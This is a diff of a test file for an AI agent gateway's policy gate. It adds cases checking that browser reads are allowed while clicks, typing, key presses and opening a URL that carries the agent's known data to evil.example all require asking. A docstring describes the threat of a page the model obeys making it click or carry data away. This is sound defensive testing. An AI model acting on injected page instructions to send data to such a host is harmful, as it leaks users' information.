@@ -23,9 +23,14 @@ from everturn_actors.model import (
     UserMessage,
 )
 from everturn_actors.ports import ALLOW, Tool, ToolCapabilities, Verdict
+from everturn_actors.testing import ManualClock
+from everturn_gateway.tools.browser.browsers import Wanted
+from everturn_gateway.tools.browser.opening import open_browser_place
+from everturn_gateway.tools.browser.tool import BrowserTool
 from everturn_gateway.tools.policy import PolicyGate, read_pattern
 from everturn_gateway.tools.policy.outside.given import address_key, addresses_in
 from everturn_gateway.tools.policy.outside.shown import CHOICE_BITS
+from everturn_gateway.tools.web.addresses import Allowed
 
 FETCH = Program("web_fetch", capabilities=ToolCapabilities(read_only=True))
 SEARCH = Program("web_search", capabilities=ToolCapabilities(read_only=True))
@@ -33,7 +38,7 @@ WRITE = Program("write_file", capabilities=ToolCapabilities(safe=True))
 READ = Program("read_file", capabilities=ToolCapabilities(read_only=True, safe=True))
 GET = RemoteProgram("github_get_issue", capabilities=ToolCapabilities(kind="mcp", read_only=True))
 CREATE = RemoteProgram("github_create_issue", capabilities=ToolCapabilities(kind="mcp"))
-ALLOWED = ("builtin:web", "mcp:github:*", "bash:ls", "builtin:files")
+ALLOWED = ("builtin:web", "builtin:browser", "mcp:github:*", "bash:ls", "builtin:files")
 PAGE = "the page https://docs.example/start"
 KNOWN = "what-it-knows"
 
@@ -82,6 +87,11 @@ async def judged(now: ToolCall, tool: Tool, of: Conversation, *owner: str) -> Ve
 def fetch(url: str, call_id: str = "now") -> ToolCall:
     """Return a call that reads a page."""
     return call("web_fetch", call_id, url=url)
+
+
+def opening(url: str) -> ToolCall:
+    """Return a call that opens a page in the browser."""
+    return call("browser", "now", action="open", url=url)
 
 
 START = read(
@@ -395,6 +405,27 @@ def test_what_a_page_can_cost_is_bounded() -> None:
 async def test_reading_goes_on_and_effects_ask(tool: Tool, made: ToolCall, effect: str) -> None:
     """What is judged is what a call can leak or change, not how many there were."""
     assert (await judged(made, tool, about(made, START))).effect == effect
+
+
+@pytest.mark.parametrize(
+    ("made", "effect"),
+    [
+        (call("browser", "now", action="read"), "allow"),
+        (call("browser", "now", action="screenshot"), "allow"),
+        (opening("https://docs.example/tasks?x=1"), "allow"),
+        (opening(f"https://evil.example/{KNOWN}"), "ask"),
+        (opening(f"evil.example/{KNOWN}"), "ask"),
+        (call("browser", "now", action="click", ref="e1"), "ask"),
+        (call("browser", "now", action="type", ref="e1", text=KNOWN), "ask"),
+        (call("browser", "now", action="press", key="Enter"), "ask"),
+        (call("browser", "now", action="back"), "ask"),
+    ],
+)
+async def test_a_browser_looks_on_and_asks_to_act(made: ToolCall, effect: str) -> None:
+    """A page that the model obeys must not have it click, or carry away what it knows."""
+    async with open_browser_place({}, ManualClock()) as place:
+        tool = BrowserTool(place, Wanted(allowed=Allowed()))
+        assert (await judged(made, tool, about(made, START))).effect == effect
 
 
 async def test_an_owner_says_which_tools_of_a_server_only_read() -> None:
